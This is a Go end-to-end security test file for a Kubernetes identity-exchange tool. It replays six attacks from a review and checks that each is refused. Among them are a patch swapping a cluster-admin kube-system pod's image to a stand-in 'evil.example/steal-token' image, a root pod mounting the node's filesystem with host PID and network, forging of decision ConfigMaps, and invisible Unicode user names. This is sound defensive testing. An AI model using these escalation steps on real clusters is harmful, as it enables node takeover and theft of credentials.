//go:build e2e

package e2e

// Attacks a second review made on the fix of issue 41, each on real clusters as the party that would
// make it: the tenant through its pairing identity, the holder of an exchange credential, or two runs of
// the provider's administrator at once. Each failed before its fix; each now proves the refusal, by the
// mechanism meant to refuse it, and that nothing was created.

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/client-go/kubernetes"

	"github.com/federate-dev/kubectl-federate/pkg/apis/federate/v1alpha1"
	"github.com/federate-dev/kubectl-federate/pkg/exchange"
	"github.com/federate-dev/kubectl-federate/pkg/kubeconfig"
	"github.com/federate-dev/kubectl-federate/pkg/member"
)

// scopedRule maps user to itself (with groups) for a scope written as YAML flow.
func scopedRule(rule, user, groups, scope string) string {
	return `    - name: ` + rule + `
      type: StaticMappingIdentityExchanger
      source: {user: ` + user + `, cluster: provider}
      target: {user: ` + user + `, groups: [` + groups + `]}
      scope: ` + scope + `
`
}

// reachMentions says whether a reach list names namespace ns.
func reachMentions(reach []string, ns string) bool {
	return slices.ContainsFunc(reach, func(r string) bool { return strings.Contains(r, ns) })
}

// Attack 1. Claim: "reach sees namespaces: run-code rights in namespaces holding identities need
// --allow-reach". Patching a pod's image is running code as that pod's ServiceAccount, with its mounted
// Secrets: a container's image is one of the few fields of a pod spec that may change. A scope of
// patch/update on pods in kube-system shows no reach and is issued without --allow-reach; its credential
// swaps the image of a kube-system pod that runs as a cluster-admin ServiceAccount (coredns, kube-proxy and
// the like on a real cluster).
func TestAttack41PatchPodsInKubeSystem(t *testing.T) {
	freshPairing(t)
	admin := kubeadmLike(t, provider)
	ctx := t.Context()
	sa := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "atk41-powerful"}}
	if _, err := admin.CoreV1().ServiceAccounts("kube-system").Create(ctx, sa, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	crb := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "atk41-powerful"},
		Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: sa.Name, Namespace: "kube-system"}},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"}}
	if _, err := admin.RbacV1().ClusterRoleBindings().Create(ctx, crb, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	pod := restrictedPod("atk41-dns", func(p *corev1.Pod) { p.Spec.ServiceAccountName = sa.Name })
	if _, err := admin.CoreV1().Pods("kube-system").Create(ctx, pod, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		ctx := context.Background()
		_ = admin.CoreV1().Pods("kube-system").Delete(ctx, pod.Name, metav1.DeleteOptions{GracePeriodSeconds: new(int64)})
		_ = admin.RbacV1().ClusterRoleBindings().Delete(ctx, crb.Name, metav1.DeleteOptions{})
		_ = admin.CoreV1().ServiceAccounts("kube-system").Delete(ctx, sa.Name, metav1.DeleteOptions{})
	})

	applyRules(t, scopedRule("patcher", "alice", `"`+clusterAdminsGroup+`"`, `{verbs: [get, list, patch, update], resources: [pods], namespaces: [kube-system]}`))
	name := requestFor(t, "alice")
	if reach := listing(t)[name].Reach; !reachMentions(reach, "kube-system") {
		t.Errorf("patch,update on pods in kube-system lists reach %q, want the identities of namespace kube-system", reach)
	}
	before := exchangeObjects(t)
	r := on(t, provider, "allow", "exchange", name, "--remote-cluster-id", "consumer")
	if r.code != 0 {
		if !strings.Contains(r.stderr, "--allow-reach") {
			t.Errorf("allow refused, but not for its reach: %s", r)
		}
		if after := exchangeObjects(t); !slices.Equal(before, after) {
			t.Errorf("the refusal changed %v -> %v", before, after)
		}
		return
	}
	t.Errorf("patch,update on pods in kube-system was issued without --allow-reach and with no WARNING (%v)", strings.Contains(r.stderr, "WARNING"))
	kc := writeFile(t, "alice.kubeconfig", mustOn(t, consumer, "get", "kubeconfig", "--remote-cluster-id", "provider", "--for-user", "alice").stdout)
	runActions(t, kc, []action{{"swap the image of a kube-system pod running as a cluster-admin ServiceAccount",
		[]string{"patch", "pod", pod.Name, "-n", "kube-system", "--type=json", "-p", `[{"op":"replace","path":"/spec/containers/0/image","value":"evil.example/steal-token:1"}]`}, false}})
	if got, err := admin.CoreV1().Pods("kube-system").Get(ctx, pod.Name, metav1.GetOptions{}); err == nil && got.Spec.Containers[0].Image != pauseImage {
		t.Errorf("kube-system/%s (ServiceAccount %s, cluster-admin) now runs %s", pod.Name, got.Spec.ServiceAccountName, got.Spec.Containers[0].Image)
	}
}

// Attack 2. A scope that writes ConfigMaps in federate-system (where the decisions and the revocation
// record live) would let its holder rewrite its own decision or delete a denial. Such a grant is refused
// whatever is accepted; and a decision someone rewrote (here the administrator, standing for anyone who
// can write federate-system) never makes an answer unconstrained on a provider that honours constrained
// impersonation.
func TestAttack41DecisionsWrittenByACredential(t *testing.T) {
	freshPairing(t)
	kubeadmLike(t, provider)
	bindView(t, provider, "gina")
	applyRules(t, scopedRule("recorder", "alice", `"`+clusterAdminsGroup+`"`,
		`{verbs: [get, list, create, update, delete], resources: [configmaps], namespaces: [`+member.SystemNamespace+`]}`)+
		scopedRule("cluster-recorder", "carl", "", `{verbs: [patch], resources: [configmaps]}`)+readerRule("kept", "gina"))
	name, wide, gina := requestFor(t, "alice"), requestFor(t, "carl"), requestFor(t, "gina")
	if reach := listing(t)[name].Reach; !reachMentions(reach, member.SystemNamespace) {
		t.Errorf("writing ConfigMaps in %s (the provider's decisions and revocation record) lists reach %q", member.SystemNamespace, reach)
	}
	before := exchangeObjects(t)
	for _, n := range []string{name, wide} {
		for _, extra := range [][]string{nil, {"--allow-reach", n}} {
			r := on(t, provider, append([]string{"allow", "exchange", n, "--remote-cluster-id", "consumer"}, extra...)...)
			if r.code == 0 || !strings.Contains(r.stderr, "could write in "+member.SystemNamespace) {
				t.Errorf("allow exchange %s %v: %s", n, extra, r)
			}
		}
	}
	if after := exchangeObjects(t); !slices.Equal(before, after) {
		t.Errorf("the refusals changed %v -> %v", before, after)
	}

	// A decision rewritten to Unconstrained: answering again keeps the grant constrained (or refuses).
	mustOn(t, provider, "allow", "exchange", gina, "--remote-cluster-id", "consumer")
	cms := kubernetes.NewForConfigOrDie(provider.Config).CoreV1().ConfigMaps(member.SystemNamespace)
	cm, err := cms.Get(t.Context(), exchange.DecisionName("consumer", gina), metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var d map[string]any
	if err := json.Unmarshal([]byte(cm.Data["decision.json"]), &d); err != nil {
		t.Fatal(err)
	}
	d["mode"], d["reach"] = "Unconstrained", []string{"every verb on every resource (cluster-admin)"}
	forged, _ := json.Marshal(d)
	cm.Data["decision.json"] = string(forged)
	if _, err := cms.Update(t.Context(), cm, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}
	r := on(t, provider, "allow", "exchange", gina, "--remote-cluster-id", "consumer")
	if strings.Contains(r.stderr, "without constrained impersonation") || strings.Contains(r.stdout, "Unconstrained") {
		t.Errorf("allow again followed a rewritten decision:\n%s", r)
	}
	role, err := kubernetes.NewForConfigOrDie(provider.Config).RbacV1().ClusterRoles().Get(t.Context(), exchange.RBACName("consumer", gina), metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, rule := range role.Rules {
		if slices.Contains(rule.Verbs, "impersonate") {
			t.Errorf("the grant now holds the legacy impersonate verb: %v", rule)
		}
	}
}

// Attack 3. Claims: "revoke and unauthenticate take back every grant"; "nothing revoked ever regains
// rights". An allow that runs while revoke runs (two administrators, or one in two terminals) passes
// allow's only tenant check, made at its start (the Tenant is marked Revoked last, after a 10 s wait for
// the impersonation cache), and binds after revoke read the grants. The tenant, whose RoleBinding is gone,
// still receives the certificate through a watch it opened before (the API server authorizes a watch
// once). After revoke, its exchange credential works; unauthenticate (whose Revoke answers Already for a
// revoked Tenant) leaves it too, and it survives a new pairing.
func TestAttack41AllowDuringRevoke(t *testing.T) {
	freshPairing(t)
	kubeadmLike(t, provider)
	bindView(t, provider, "eve", "frank")
	applyRules(t, readerRule("first", "eve")+readerRule("late", "frank"))
	issueFor(t, "eve", requestFor(t, "eve")) // an exchange credential to cut: revoke waits out the impersonation cache
	frank := requestFor(t, "frank")
	admin := kubernetes.NewForConfigOrDie(provider.Config)
	t.Cleanup(func() { // whatever the bug leaves, the later tests start without it
		sel := metav1.ListOptions{LabelSelector: member.LabelExchange + "=" + frank[strings.LastIndex(frank, "-")+1:]}
		ctx := context.Background()
		_ = admin.RbacV1().ClusterRoleBindings().DeleteCollection(ctx, metav1.DeleteOptions{}, sel)
		_ = admin.RbacV1().ClusterRoles().DeleteCollection(ctx, metav1.DeleteOptions{}, sel)
		_ = admin.RbacV1().RoleBindings("team-a").DeleteCollection(ctx, metav1.DeleteOptions{}, sel)
	})

	// The tenant watches its request before anything starts.
	w, err := tenantDynamic(t).Resource(v1alpha1.ExchangeRequestGVR).Namespace(tenantNS).Watch(t.Context(), metav1.ListOptions{FieldSelector: "metadata.name=" + frank})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Stop()
	certs := make(chan []byte, 8)
	go func() {
		for ev := range w.ResultChan() {
			if u, ok := ev.Object.(*unstructured.Unstructured); ok {
				if s, found, _ := unstructured.NestedString(u.Object, "status", "certificate"); found && s != "" {
					if der, err := base64.StdEncoding.DecodeString(s); err == nil {
						certs <- der
					}
				}
			}
		}
	}()

	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	revoke := newCommand(ctx, t.TempDir(), nil, federateBin, "revoke", "--remote-cluster-id", "consumer", "--kubeconfig", provider.Kubeconfig)
	if err := revoke.begin(); err != nil {
		t.Fatal(err)
	}
	// Revoke has cut the tenant (its RoleBinding is gone) and waits out the impersonation cache.
	for {
		_, err := admin.RbacV1().RoleBindings(tenantNS).Get(ctx, member.RoleBindingName, metav1.GetOptions{})
		if apierrors.IsNotFound(err) {
			break
		}
		if ctx.Err() != nil {
			t.Fatal("revoke never removed the tenant's RoleBinding")
		}
		time.Sleep(20 * time.Millisecond)
	}
	allow := on(t, provider, "allow", "exchange", frank, "--remote-cluster-id", "consumer")
	rev := revoke.end()
	t.Logf("revoke: %s", rev)
	if rev.code != 0 {
		t.Fatalf("revoke failed: %s", rev)
	}
	if allow.code == 0 {
		t.Errorf("allow exchange %s answered while the consumer was being revoked:\n%s", frank, allow.stderr)
	}
	if rbac := exchangeRBACOf(t, frank); len(rbac) > 0 {
		t.Errorf("after revoke the consumer still holds %v", rbac)
	}
	var cert []byte
	select {
	case cert = <-certs:
		t.Logf("the tenant received the certificate of %s through its watch after its RoleBinding was deleted", frank)
	case <-time.After(3 * time.Second):
	}
	kc := ""
	if cert != nil {
		key := pendingKey(t, "late")
		raw, err := kubeconfig.Build(kubeconfig.Params{Name: "frank", Server: provider.Config.Host, CA: provider.Config.CAData,
			CertPEM: csrPEMBlock("CERTIFICATE", cert), KeyPEM: key})
		if err != nil {
			t.Fatal(err)
		}
		if raw, err = kubeconfig.Impersonate(raw, "frank", nil, ""); err != nil {
			t.Fatal(err)
		}
		kc = writeFile(t, "frank.kubeconfig", string(raw))
		runActions(t, kc, []action{{"frank's certificate after revoke", []string{"get", "pods", "-n", "team-a"}, false}})
	}

	// unauthenticate takes every grant back, and a new pairing brings none back.
	unauthenticate(t)
	if rbac := exchangeRBACOf(t, frank); len(rbac) > 0 {
		t.Errorf("after unauthenticate the consumer still holds %v", rbac)
	}
	authenticate(t)
	if kc != "" {
		runActions(t, kc, []action{{"frank's certificate after unauthenticate and a new pairing", []string{"get", "pods", "-n", "team-a"}, false}})
	}
}

// pendingKey is the consumer's waiting key of a rule's grant.
func pendingKey(t *testing.T, rule string) []byte {
	t.Helper()
	l, err := kubernetes.NewForConfigOrDie(consumer.Config).CoreV1().Secrets(member.SystemNamespace).List(t.Context(), metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range l.Items {
		if strings.HasPrefix(s.Name, "exchange-provider."+rule+"-") && strings.HasSuffix(s.Name, "-pending-key") {
			for _, v := range s.Data {
				return v
			}
		}
	}
	t.Fatalf("no waiting key of rule %s on the consumer", rule)
	return nil
}

// csrPEMBlock is der as one PEM block of type kind.
func csrPEMBlock(kind string, der []byte) []byte {
	if strings.HasPrefix(string(der), "-----BEGIN") {
		return der // status.certificate holds PEM already
	}
	return []byte("-----BEGIN " + kind + "-----\n" + base64.StdEncoding.EncodeToString(der) + "\n-----END " + kind + "-----\n")
}

// Attack 4. Claim: a grant is "bounded by what the granted identity can reach", and "create pods in team-b
// (no Secret, no bound ServiceAccount)" reaches nothing. A pod need not run as a ServiceAccount to reach
// identities: in a namespace without Pod Security enforcement a root pod with the node's root filesystem
// (hostPath /), PID and network namespaces owns the node (the kubelet's credential, every Secret mounted
// there); on a cluster run with --allow-privileged (kubeadm's default) it may be privileged too. The scope
// shows no reach; its credential creates such a pod.
func TestAttack41PrivilegedPodWhereNoIdentityIs(t *testing.T) {
	freshPairing(t)
	kubeadmLike(t, provider)
	applyRules(t, scopedRule("runner-b", "bob", `"`+clusterAdminsGroup+`"`, `{verbs: [create, get, list], resources: [pods], namespaces: [team-b]}`))
	name := requestFor(t, "bob")
	reach := listing(t)[name].Reach
	r := on(t, provider, "allow", "exchange", name, "--remote-cluster-id", "consumer")
	if r.code != 0 {
		return // refused: held
	}
	t.Logf("create pods in team-b (no Pod Security level enforced) issued with reach %q", reach)
	kc := writeFile(t, "bob.kubeconfig", mustOn(t, consumer, "get", "kubeconfig", "--remote-cluster-id", "provider", "--for-user", "bob").stdout)
	pod := `apiVersion: v1
kind: Pod
metadata: {name: atk41-node-owner, namespace: team-b}
spec:
  hostPID: true
  hostNetwork: true
  containers:
  - name: c
    image: ` + pauseImage + `
    securityContext: {runAsUser: 0}
    volumeMounts: [{name: root, mountPath: /host}]
  volumes: [{name: root, hostPath: {path: /}}]
`
	podFile := writeFile(t, "pod.yaml", pod)
	runActions(t, kc, []action{{"create a root pod with the node's /, PID and network namespaces in team-b", []string{"create", "-f", podFile}, false}})
}

// Attack 5. Claim: "a listing shows what is granted"; a legacy grant (RBAC, no decision) is listed by the
// target its binding names. The tenant leaves any request whose name ends with the grant's hash: the
// listing then shows the tenant's spec (target nobody, get on pods) as the issued grant, and the binding's
// real target (alice, cluster-admins) is no longer listed anywhere.
func TestAttack41LegacyGrantListedAsTheTenantSays(t *testing.T) {
	freshPairing(t)
	admin := kubeadmLike(t, provider)
	hash := "41a41a41a41a41a41a41a41a41a41a41"
	labels := member.TenantLabels("consumer")
	labels[member.LabelExchange] = hash
	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "federate-exchange-atk41-legacy", Labels: labels},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"users"}, Verbs: []string{"impersonate"}, ResourceNames: []string{"alice"}},
			{APIGroups: []string{""}, Resources: []string{"groups"}, Verbs: []string{"impersonate"}, ResourceNames: []string{clusterAdminsGroup}}}}
	binding := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "federate-exchange-atk41-legacy", Labels: labels, Annotations: map[string]string{"federate.dev/exchange-target": "alice"}},
		Subjects: []rbacv1.Subject{{Kind: rbacv1.UserKind, APIGroup: rbacv1.GroupName, Name: exchange.User("consumer", hash)}},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role.Name}}
	if _, err := admin.RbacV1().ClusterRoles().Create(t.Context(), role, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := admin.RbacV1().ClusterRoleBindings().Create(t.Context(), binding, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = admin.RbacV1().ClusterRoleBindings().Delete(context.Background(), binding.Name, metav1.DeleteOptions{})
		_ = admin.RbacV1().ClusterRoles().Delete(context.Background(), role.Name, metav1.DeleteOptions{})
	})
	if i := listing(t)[hash]; i.User != "alice" || i.Phase != exchange.ExchangeIssued {
		t.Fatalf("the legacy grant is listed as %+v before the attack", i)
	}
	harmless := forgeExchangeRequest(t, "harmless", exchange.Target{User: "nobody"}, exchange.Scope{Verbs: []string{"get"}, Resources: []string{"pods"}, Namespaces: []string{"team-a"}})
	harmless.SetName("harmless-" + hash)
	if _, err := tenantDynamic(t).Resource(v1alpha1.ExchangeRequestGVR).Namespace(tenantNS).Create(t.Context(), harmless, metav1.CreateOptions{}); err != nil {
		t.Fatalf("the tenant leaves a request named after the grant's hash: %v", err)
	}
	var rows []string
	shown := false
	for _, i := range listing(t) {
		rows = append(rows, fmt.Sprintf("%s: user %s, %s, %s", i.Name, i.User, i.Scope.String(), i.Phase))
		if strings.HasSuffix(i.Name, hash) && i.Phase == exchange.ExchangeIssued && i.User == "alice" {
			shown = true
		}
	}
	if !shown {
		t.Errorf("the legacy grant of alice (groups %s) is no longer listed; the listing reads:\n%s", clusterAdminsGroup, strings.Join(rows, "\n"))
	}
}

// Attack 6. Claim: "what the administrator reads is what is granted"; targets are "printable", "no
// zero-width characters". Letters and symbols that render as nothing (U+3164 HANGUL FILLER, U+2800
// BRAILLE PATTERN BLANK) pass exchange apply, and combining marks, which take no column, shift every
// later column of the row (the table counts runes, not display width).
func TestAttack41InvisibleTargets(t *testing.T) {
	freshPairing(t)
	kubeadmLike(t, provider)
	for _, user := range []string{"\u3164", "alice\u2800", "\u115f\u1160"} {
		rules := "apiVersion: federate.dev/v1alpha1\nkind: ClusterGatewayConfiguration\nspec:\n  clientIdentityExchanger:\n    rules:\n" +
			scopedRule("invisible", "eve", "", `{verbs: [get], resources: [pods], namespaces: [team-a]}`)
		rules = strings.Replace(rules, "target: {user: eve,", "target: {user: \""+user+"\",", 1)
		if r := on(t, consumer, "exchange", "apply", "-f", writeFile(t, "invisible.yaml", rules)); r.code == 0 {
			t.Errorf("exchange apply took target user %+q, which renders as blank", user)
		}
	}
	// Forty combining marks would take no column and shift the rest of the row: refused.
	rules := "apiVersion: federate.dev/v1alpha1\nkind: ClusterGatewayConfiguration\nspec:\n  clientIdentityExchanger:\n    rules:\n" +
		strings.Replace(scopedRule("marks", "mark", "", `{verbs: [get], resources: [pods], namespaces: [team-a]}`),
			"target: {user: mark,", "target: {user: \"alice"+strings.Repeat("\u0301", 40)+"\",", 1)
	if r := on(t, consumer, "exchange", "apply", "-f", writeFile(t, "marks.yaml", rules)); r.code == 0 || !strings.Contains(r.stderr, "U+0301") {
		t.Errorf("exchange apply took forty combining marks: %s", r)
	}
	// Two are a name (a decomposed accent): the row still lines up with its header.
	marks := "alice" + strings.Repeat("\u0301", 2)
	applyRules(t, strings.Replace(scopedRule("marks", "mark", "", `{verbs: [get], resources: [pods], namespaces: [team-a]}`),
		"target: {user: mark,", "target: {user: \""+marks+"\",", 1))
	name := requestFor(t, "mark")
	lines := strings.Split(mustOn(t, provider, "allow", "exchange", "--remote-cluster-id", "consumer").stdout, "\n")
	width := func(s string) int { // display columns: combining marks take none
		n := 0
		for _, r := range s {
			if !unicode.In(r, unicode.Mn, unicode.Me) {
				n++
			}
		}
		return n
	}
	header := lines[0]
	want := width(header[:strings.Index(header, "SCOPE")])
	for _, l := range lines[1:] {
		if strings.HasPrefix(l, name) {
			if got := width(l[:strings.Index(l, "get on pods")]); got != want {
				t.Errorf("the row of %s shows its SCOPE at column %d, under a header at column %d:\n%s\n%s", name, got, want, header, l)
			}
		}
	}
}
